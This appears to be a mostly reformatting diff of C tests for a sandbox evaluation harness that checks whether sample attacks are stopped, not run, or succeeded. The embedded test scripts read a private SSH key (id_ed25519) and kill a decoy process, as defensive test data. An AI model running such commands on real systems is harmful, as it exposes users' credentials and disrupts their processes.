+	    {"03-leftover.sh", EVAL_LANG_SHELL, leftover},
+	    {"04-outside.sh", EVAL_LANG_SHELL, outside},
+	    {"05-rm.sh", EVAL_LANG_SHELL, rm_userfiles},
+	    {"08-kill.sh", EVAL_LANG_SHELL, kill_decoy},
+	    {"09-tty.sh", EVAL_LANG_SHELL, tty},
+	    {"10-link.sh", EVAL_LANG_SHELL, link_get},
+	    {"12-metadata.py", EVAL_LANG_PYTHON, metadata},
 	};
 
 	fixture_init(&f);
 	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
 		run_attack(&f, harness_stockade(), t[i].name, t[i].lang,
-			   t[i].text, &v);
+		    t[i].text, &v);
 		show(&v);
 		cr_assert_eq(v.outcome, EVAL_STOPPED, "%s: %s", t[i].name,
-			     eval_outcome_name(v.outcome));
+		    eval_outcome_name(v.outcome));
 		cr_assert_neq(v.status[0], '\0', "%s: a result", t[i].name);
 	}
 	eval_honeypot_stop(f.hp);
@@ -860,34 +878,33 @@ Test(eval, full_product_stops_them)
 /* ---- stopped only from declared evidence (issue 23 point 9) ------------- */
 
 /* Headers of attacks that declare what stopped and an attempt look like. */
-#define D "# family: mistake\n# tries: test\n# exfil: yes\n" \
+#define D                                                  \
+	"# family: mistake\n# tries: test\n# exfil: yes\n" \
 	"# stopped-when: canary-unread\n# attempted-when: marker\n"
 
 /* The key is read and printed once the marker is out. */
-static const char d_print[] = D
-	"echo \"ATTEMPTED $1\" >&2\n"
-	"cat \"$2/.ssh/id_ed25519\"\n";
+static const char d_print[] = D "echo \"ATTEMPTED $1\" >&2\n"
+				"cat \"$2/.ssh/id_ed25519\"\n";
 /* Exits before its harmful step for a reason of its own (a fork that
  * failed, a tool that is missing here): no marker. */
 static const char d_early[] = D
-	"echo 'cannot fork: Resource temporarily unavailable' >&2\n"
-	"exit 1\n"
-	"echo \"ATTEMPTED $1\" >&2\n"
-	"cat \"$2/.ssh/id_ed25519\"\n";
+    "echo 'cannot fork: Resource temporarily unavailable' >&2\n"
+    "exit 1\n"
+    "echo \"ATTEMPTED $1\" >&2\n"
+    "cat \"$2/.ssh/id_ed25519\"\n";
 /* Says why it could not try. */
 static const char d_cannot[] = D
-	"command -v stockade-no-such-tool >/dev/null 2>&1 || "
-	"{ echo \"CANNOT $1 stockade-no-such-tool is not installed\" >&2; "
-	"exit 3; }\n";
+    "command -v stockade-no-such-tool >/dev/null 2>&1 || "
+    "{ echo \"CANNOT $1 stockade-no-such-tool is not installed\" >&2; "
+    "exit 3; }\n";
 /* Tried, then saw its try come to nothing for a reason of its own: the
  * CANNOT wins over the marker. */
 static const char d_both[] = D
-	"echo \"ATTEMPTED $1\" >&2\n"
-	"echo \"CANNOT $1 no such interface in this kernel\" >&2\n";
+    "echo \"ATTEMPTED $1\" >&2\n"
+    "echo \"CANNOT $1 no such interface in this kernel\" >&2\n";
 /* Harm it did not declare: still harm. */
-static const char d_undeclared[] = D
-	"echo \"ATTEMPTED $1\" >&2\n"
-	"kill -TERM \"$7\"\n";
+static const char d_undeclared[] = D "echo \"ATTEMPTED $1\" >&2\n"
+				     "kill -TERM \"$7\"\n";
 
 Test(eval, attack_that_did_not_try_is_not_stopped)
 {
@@ -897,56 +914,58 @@ Test(eval, attack_that_did_not_try_is_not_stopped)
 	fixture_init(&f);
 	/* Today's rule ("no rule fired") calls this stopped. */
 	run_attack(&f, f.bare_path, "01-early.sh", EVAL_LANG_SHELL, d_early,
-		   &v);
+	    &v);
 	show(&v);
-	cr_assert_eq(v.outcome, EVAL_NOT_RUN, "an attack that exits before "
-		     "its harmful step is not stopped: %s",
-		     eval_outcome_name(v.outcome));
+	cr_assert_eq(v.outcome, EVAL_NOT_RUN,
+	    "an attack that exits before "
+	    "its harmful step is not stopped: %s",
+	    eval_outcome_name(v.outcome));
 	cr_assert(!v.attempted);
 	cr_assert_not_null(strstr(v.error, "no ATTEMPTED marker"), "%s",
-			   v.error);
+	    v.error);
 	cr_assert_not_null(strstr(v.error, "cannot fork"), "%s", v.error);
 
 	run_attack(&f, f.bare_path, "02-cannot.sh", EVAL_LANG_SHELL, d_cannot,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert_eq(v.outcome, EVAL_NOT_RUN);
-	cr_assert_str_eq(v.error, "the attack could not try: "
-			 "stockade-no-such-tool is not installed");
+	cr_assert_str_eq(v.error,
+	    "the attack could not try: "
+	    "stockade-no-such-tool is not installed");
 
 	run_attack(&f, f.bare_path, "03-both.sh", EVAL_LANG_SHELL, d_both, &v);
 	show(&v);
 	cr_assert_eq(v.outcome, EVAL_NOT_RUN);
 	cr_assert(v.attempted);
-	cr_assert_not_null(strstr(v.error, "no such interface"), "%s",
-			   v.error);
+	cr_assert_not_null(strstr(v.error, "no such interface"), "%s", v.error);
 
 	/* Bare, the same attack with its marker succeeds, the evidence
 	 * declared; in the full product it is stopped. */
 	run_attack(&f, f.bare_path, "04-print.sh", EVAL_LANG_SHELL, d_print,
-		   &v);
+	    &v);
 	show(&v);
 	cr_assert_eq(v.outcome, EVAL_SUCCEEDED);
 	cr_assert(has(&v, "canary", "stdout", "ssh_key"));
 	cr_assert(v.ev[0].declared);
 	run_attack(&f, harness_stockade(), "04-print.sh", EVAL_LANG_SHELL,
-		   d_print, &v);
+	    d_print, &v);
 	show(&v);
 	cr_assert_eq(v.outcome, EVAL_STOPPED, "%s: %s",
-		     eval_outcome_name(v.outcome), v.error);
+	    eval_outcome_name(v.outcome), v.error);
 	cr_assert(v.attempted);
 	cr_assert_eq(v.checked & EVAL_STOP_CANARY, EVAL_STOP_CANARY);
 	/* Exiting early in the full product is not stopped either. */
 	run_attack(&f, harness_stockade(), "01-early.sh", EVAL_LANG_SHELL,
-		   d_early, &v);
+	    d_early, &v);
 	cr_assert_eq(v.outcome, EVAL_NOT_RUN, "%s",
-		     eval_outcome_name(v.outcome));
+	    eval_outcome_name(v.outcome));
 
 	run_attack(&f, f.bare_path, "05-undeclared.sh", EVAL_LANG_SHELL,
-		   d_undeclared, &v);
+	    d_undeclared, &v);
 	show(&v);
-	cr_assert_eq(v.outcome, EVAL_SUCCEEDED, "harm is harm, declared or "
-		     "not");
+	cr_assert_eq(v.outcome, EVAL_SUCCEEDED,
+	    "harm is harm, declared or "
+	    "not");
 	cr_assert(has(&v, "outside", "decoy", NULL));
 	cr_assert(!v.ev[0].declared);
 	eval_honeypot_stop(f.hp);
@@ -965,19 +984,23 @@ Test(eval, corpus_cell_of_an_attack_that_did_not_try)
 
 	cr_assert_eq(chmod(d, 0755), 0);
 	write_file(d, "12-early.sh", d_early, strlen(d_early), 0644);
-	snprintf(json, sizeof(json), "%s/out.json", harness_tmpdir(
-			 "stockade-eval-json-"));
+	snprintf(json, sizeof(json), "%s/out.json",
+	    harness_tmpdir("stockade-eval-json-"));
 	RUN(&o, "eval", "corpus", "--attacks", d, "--json", json);
 	cr_assert_eq(o.status, 70, "%s%s", o.out, o.err);
-	cr_assert_not_null(strstr(o.out, "| 12-early | mistake | N | not run: "
-				  "no ATTEMPTED marker"), "%s", o.out);
+	cr_assert_not_null(strstr(o.out,
+			       "| 12-early | mistake | N | not run: "
+			       "no ATTEMPTED marker"),
+	    "%s", o.out);
 	cr_assert_null(strstr(o.out, "\u2713"), "%s", o.out);
 	j = json_load_file(json, 0, &jerr);
 	cr_assert_not_null(j, "%s", jerr.text);
-	run = json_object_get(json_object_get(json_array_get(
-		json_object_get(j, "attacks"), 0), "runs"), "full");
+	run = json_object_get(
+	    json_object_get(json_array_get(json_object_get(j, "attacks"), 0),
+		"runs"),
+	    "full");
 	cr_assert_str_eq(json_string_value(json_object_get(run, "outcome")),
-			 "not_run");
+	    "not_run");
 	cr_assert(json_is_false(json_object_get(run, "attempted")));
 	json_decref(j);
 	run_out_free(&o);
@@ -997,16 +1020,17 @@ Test(eval, weakened_configurations_are_refused_to_root)
 	if (geteuid() == 0) {
 		/* Refused before anything is looked at or run. */
 		cr_assert_eq(o.status, 69, "%s", o.err);
-		cr_assert_not_null(strstr(o.err, "setpriv --reuid=65534 "
-					  "--regid=65534 --clear-groups"),
-				   "%s", o.err);
+		cr_assert_not_null(strstr(o.err,
+				       "setpriv --reuid=65534 "
+				       "--regid=65534 --clear-groups"),
+		    "%s", o.err);
 		run_out_free(&o);
 		RUN(&o, "eval", "isolation", "--attacks", d);
 		cr_assert_eq(o.status, 69, "%s", o.err);
 	} else {
 		cr_assert_eq(o.status, 2, "%s", o.err);
 		cr_assert_not_null(strstr(o.err, "no program to run"), "%s",
-				   o.err);
+		    o.err);
 	}
 	run_out_free(&o);
 	RUN(&o, "eval", "nonsense");
@@ -1032,18 +1056,20 @@ Test(eval, corpus_runs_the_full_product)
 
 	cr_assert_eq(chmod(d, 0755), 0);
 	write_file(d, "05-print-key.py", h, strlen(h), 0644);
-	snprintf(json, sizeof(json), "%s/out.json", harness_tmpdir(
-			 "stockade-eval-json-"));
+	snprintf(json, sizeof(json), "%s/out.json",
+	    harness_tmpdir("stockade-eval-json-"));
 	RUN(&o, "eval", "corpus", "--attacks", d, "--json", json);
 	cr_assert_eq(o.status, 0, "%s%s", o.out, o.err);
 	cr_assert_not_null(strstr(o.out, "| 05-print-key | mistake | \u2713 |"),
-			   "%s", o.out);
+	    "%s", o.out);
 	j = json_load_file(json, 0, &jerr);
 	cr_assert_not_null(j, "%s", jerr.text);
-	run = json_object_get(json_object_get(json_array_get(
-		json_object_get(j, "attacks"), 0), "runs"), "full");
+	run = json_object_get(
+	    json_object_get(json_array_get(json_object_get(j, "attacks"), 0),
+		"runs"),
+	    "full");
 	cr_assert_str_eq(json_string_value(json_object_get(run, "outcome")),
-			 "stopped");
+	    "stopped");
 	json_decref(j);
 	run_out_free(&o);
 }
